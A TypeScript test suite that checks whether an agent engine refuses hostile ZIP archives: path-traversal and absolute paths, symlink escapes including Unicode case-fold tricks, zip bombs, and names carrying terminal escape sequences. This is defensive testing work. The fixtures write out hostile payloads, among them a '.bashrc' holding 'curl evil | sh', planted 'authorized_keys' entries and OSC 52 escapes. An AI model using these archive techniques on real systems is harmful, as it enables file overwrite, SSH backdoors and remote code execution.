import { randomBytes } from 'node:crypto'
import { access, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { SettingsInput } from '../../src/shared/settings'
import type { ErrorKind } from '../../src/shared/errors'
import { buildZip, writeZip, type ZipEntrySpec, type ZipOptions } from '../support/make-zip'
import type { HostileCase } from './support/task-case'
import {
  expectCaseHeld,
  expectFailed,
  expectOnlyTaskDirs,
  expectPlainMessage,
  listTree,
  runTask,
  withHostileCase,
} from './support/task-case'

/**
 * Hostile ZIP archives, each submitted as a task to a real engine. Each is refused before anything is
 * extracted (or, for the names holding escape sequences, neutralized): the task fails with a clear
 * error, nothing appears outside the task's directory (the hostile paths aim at the planted home), no
 * workspace is left, the model is never called, and no planted secret shows up anywhere.
 *
 * The workspace is `data/tasks/<id>/workspace`, so `../../../../outside` from it is the planted home.
 */
const UP = '../../../../outside'

const exists = (p: string): Promise<boolean> =>
  access(p).then(
    () => true,
    () => false,
  )

type Entries = ZipEntrySpec[] | ((c: HostileCase) => ZipEntrySpec[])

async function refusedZip(
  entries: Entries | { file: (c: HostileCase) => Promise<string> },
  kind: ErrorKind,
  message: RegExp | string,
  opts: { zip?: ZipOptions; settings?: SettingsInput } = {},
): Promise<void> {
  await withHostileCase({ settings: opts.settings }, async (c) => {
    const file =
      'file' in entries
        ? await entries.file(c)
        : await writeZip(
            join(c.input, 'hostile.zip'),
            typeof entries === 'function' ? entries(c) : entries,
            opts.zip,
          )
    const inputs = await listTree(c.input)
    const task = await runTask(c, { source: { kind: 'zip', path: file }, prompt: 'Tidy up the code' })
    expectFailed(task, kind, message)
    expectPlainMessage(task.error?.message)
    expect(await exists(c.engine.store.paths(task.id).workspace), 'no workspace is left').toBe(false)
    expect(c.model.requests, 'the model is never called').toEqual([])
    await expectOnlyTaskDirs(c, inputs)
    await expectCaseHeld(c, [task.id])
  })
}

const fine: ZipEntrySpec = { name: 'README.md', data: '# fine\n' }

describe('ZIP: entries that leave the workspace', () => {
  it('slip: ../../../../outside/pwned.txt', async () => {
    await refusedZip(
      [fine, { name: `${UP}/pwned.txt`, data: 'pwned' }],
      'unsafe_archive',
      /escapes the destination folder/,
    )
  })

  it('slip after a legitimate top folder: repo/../../../../../outside/.bashrc', async () => {
    await refusedZip(
      [
        { name: 'repo/README.md', data: 'x' },
        { name: `repo/../${UP}/.bashrc`, data: 'curl evil | sh\n' },
      ],
      'unsafe_archive',
      /escapes the destination folder/,
    )
  })

  it('an absolute path into the planted home', async () => {
    await refusedZip(
      (c) => [
        fine,
        { name: join(c.planted.outside, '.ssh', 'authorized_keys'), data: 'ssh-ed25519 AAAA evil' },
      ],
      'unsafe_archive',
      /has an absolute path/,
    )
  })

  it('a drive-letter path: C:\\Users\\me\\.ssh\\authorized_keys', async () => {
    await refusedZip(
      [fine, { name: 'C:\\Users\\me\\.ssh\\authorized_keys', data: 'evil' }],
      'unsafe_archive',
      /drive-letter path/,
    )
  })

  it('a backslash path: ..\\..\\..\\..\\outside\\pwned.txt', async () => {
    await refusedZip(
      [fine, { name: '..\\..\\..\\..\\outside\\pwned.txt', data: 'pwned' }],
      'unsafe_archive',
      /escapes the destination folder/,
    )
  })

  it('a UNC path: \\\\server\\share\\pwned.txt', async () => {
    await refusedZip(
      [fine, { name: '\\\\server\\share\\pwned.txt', data: 'x' }],
      'unsafe_archive',
      /absolute path/,
    )
  })
})

describe('ZIP: symlinks', () => {
  it('a symlink pointing into the planted home (relative)', async () => {
    await refusedZip(
      [fine, { name: 'home', symlink: UP }],
      'unsafe_archive',
      /"home" points outside the destination folder/,
    )
  })

  it('a symlink to the planted secret (absolute): what a host read of AGENTS.md would follow', async () => {
    await refusedZip(
      (c) => [fine, { name: 'AGENTS.md', symlink: c.planted.hostSecretPath }],
      'unsafe_archive',
      /"AGENTS.md" points to an absolute path/,
    )
  })

  it('symlink-then-write: ssh -> ../../../../outside/.ssh, then ssh/authorized_keys', async () => {
    await refusedZip(
      [
        fine,
        { name: 'ssh', symlink: `${UP}/.ssh` },
        { name: 'ssh/authorized_keys', data: 'ssh-ed25519 AAAA evil' },
      ],
      'unsafe_archive',
      /points outside|goes through the archive's symlink/,
    )
  })

  it('write through a symlink that stays inside, then out of it: a -> ., a/../../../../outside/x', async () => {
    await refusedZip(
      [
        { name: 'a', symlink: '.' },
        { name: 'b', symlink: `a/${UP}` },
      ],
      'unsafe_archive',
      /"b" points outside the destination folder/,
    )
  })

  it('case-fold link pair Σ/ς: ς -> . then up -> Σ/../../../../outside (one name on macOS)', async () => {
    await refusedZip(
      [fine, { name: 'ς', symlink: '.' }, { name: 'up', symlink: `Σ/${UP}` }],
      'unsafe_archive',
      /"up" points outside the destination folder/,
    )
  })

  it('case-fold link pair σ/ς: a file written through ς -> sub as σ/x', async () => {
    await refusedZip(
      [
        { name: 'sub/keep.txt', data: 'k' },
        { name: 'ς', symlink: 'sub' },
        { name: 'σ/x.txt', data: 'through the link' },
      ],
      'unsafe_archive',
      /goes through the archive's symlink/,
    )
  })

  it('case-fold link pair ß/ss: ß -> . then up -> SS/../../../../outside', async () => {
    await refusedZip(
      [fine, { name: 'ß', symlink: '.' }, { name: 'up', symlink: `SS/${UP}` }],
      'unsafe_archive',
      /"up" points outside the destination folder/,
    )
  })

  it('case-fold link pair K/k (Kelvin sign): K -> . then up -> k/../../../../outside', async () => {
    await refusedZip(
      [
        { name: '\u212a', symlink: '.' },
        { name: 'up', symlink: `k/${UP}` },
      ],
      'unsafe_archive',
      /"up" points outside/,
    )
  })

  it('an HFS-ignorable code point: link -> . then up -> li<ZWNJ>nk/../../../../outside', async () => {
    await refusedZip(
      [
        { name: 'link', symlink: '.' },
        { name: 'up', symlink: `li\u200cnk/${UP}` },
      ],
      'unsafe_archive',
      /"up" points outside/,
    )
  })
})

describe('ZIP: bombs and limits', () => {
  it('a bomb: 1 KiB of data declaring 16 GiB', async () => {
    await refusedZip(
      [fine, { name: 'bomb.bin', data: Buffer.alloc(1024), declaredSize: 16 * 1024 ** 3 }],
      'unsafe_archive',
      /ZIP bomb|expands to/,
      { zip: { zip64: true } },
    )
  })

  it('a bomb that lies: declares 1 KiB, inflates to 64 MiB', async () => {
    await refusedZip(
      [fine, { name: 'liar.bin', data: Buffer.alloc(64 << 20), declaredSize: 1024 }],
      'unsafe_archive',
      /"liar.bin" inflates to more than the 1024 bytes it declares/,
    )
  })

  it('the overlapping-files bomb: entries sharing one compressed stream', async () => {
    // Incompressible data, so that only the overlap (not the ratio) can give it away.
    const data = randomBytes(100_000)
    const entries: ZipEntrySpec[] = [{ name: 'base.bin', data }]
    for (let i = 0; i < 3; i++) entries.push({ name: `copy${i}.bin`, data, sameDataAs: 0 })
    await refusedZip(entries, 'unsafe_archive', /overlaps another entry's data/)
  })

  it('the ratio limit (settings zip.maxRatio 100): 8 MiB of zeros', async () => {
    await refusedZip(
      [fine, { name: 'zeros.bin', data: Buffer.alloc(8 << 20) }],
      'unsafe_archive',
      /limit 100×/,
      {
        settings: { zip: { maxRatio: 100 } },
      },
    )
  })

  it('too many entries (settings zip.maxEntries 50)', async () => {
    const entries = Array.from({ length: 51 }, (_, i) => ({ name: `f${i}.txt`, data: `${i}` }))
    await refusedZip(entries, 'unsafe_archive', /51 entries \(limit 50\)/, {
      settings: { zip: { maxEntries: 50 } },
    })
  })

  it('the total size limit (settings zip.maxBytes 1 MiB)', async () => {
    await refusedZip(
      [
        fine,
        { name: 'a.bin', data: Buffer.alloc(700_000, 1) },
        { name: 'b.bin', data: Buffer.alloc(700_000, 2) },
      ],
      'unsafe_archive',
      /expands to \d+ bytes \(limit 1048576\)/,
      { settings: { zip: { maxBytes: 1 << 20 } } },
    )
  })
})

describe('ZIP: files that are not (whole) archives', () => {
  it('a truncated archive', async () => {
    await refusedZip(
      {
        file: async (c) => {
          const whole = buildZip([fine, { name: 'src/app.js', data: 'x'.repeat(5000) }])
          const path = join(c.input, 'truncated.zip')
          await writeFile(path, whole.subarray(0, Math.floor(whole.length * 0.6)))
          return path
        },
      },
      'import_failed',
      /"truncated.zip" is not a valid ZIP archive/,
    )
  })

  it('a file that is not a ZIP (a PNG named .zip)', async () => {
    await refusedZip(
      {
        file: async (c) => {
          const path = join(c.input, 'photo.zip')
          const png = Buffer.from([
            0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
          ])
          await writeFile(path, Buffer.concat([png, Buffer.alloc(4096, 7)]))
          return path
        },
      },
      'import_failed',
      /"photo.zip" is not a valid ZIP archive/,
    )
  })
})

describe('ZIP: names holding terminal escape sequences', () => {
  it('an escaping entry named with OSC 52, CSI and C1 controls: refused, the message shows them as ?', async () => {
    const name = `\x1b]52;c;cHduZWQ=\x07\x1b[2J\u009b1A/${UP}/pwned\u009d.txt`
    await refusedZip(
      [fine, { name, data: 'x' }],
      'unsafe_archive',
      /Entry "\?\]52;c;cHduZWQ=\?\?\[2J\?1A\/\.\.\//,
    )
  })

  it('files named with escape sequences are extracted, and the CLI shows every event inert', async () => {
    const evil = '\x1b]52;c;cHduZWQ=\x07\u009b2J.txt'
    await withHostileCase(
      {
        script: [
          { toolCalls: [{ name: 'shell', args: { command: 'ls; cat ./*.txt' } }] },
          { toolCalls: [{ name: 'write_file', args: { path: 'notes.md', content: 'seen\n' } }] },
          { toolCalls: [{ name: 'finish', args: { summary: 'Looked at the files.' } }] },
        ],
      },
      async (c) => {
        const file = await writeZip(join(c.input, 'names.zip'), [
          fine,
          { name: evil, data: '\x1b]52;c;Y29udGVudA==\x07 content with escapes\n' },
        ])
        const inputs = await listTree(c.input)
        const task = await runTask(c, { source: { kind: 'zip', path: file }, prompt: 'Look around' })
        expect(task.status, JSON.stringify(task.error)).toBe('review')
        const listing = c.model.requests[1]!.body.messages.find((m) => m.role === 'tool')
        expect(String(listing?.content)).toContain('52;c;cHduZWQ=') // the agent saw the real name
        const diff = await c.engine.diff(task.id)
        expect(diff.fileDiffs.map((f) => f.newPath)).toEqual(['notes.md'])
        expect(await readFile(join(c.engine.store.paths(task.id).workspace, evil), 'utf8')).toContain(
          'content',
        )
        await expectOnlyTaskDirs(c, inputs)
        await expectCaseHeld(c, [task.id])
      },
    )
  })
})
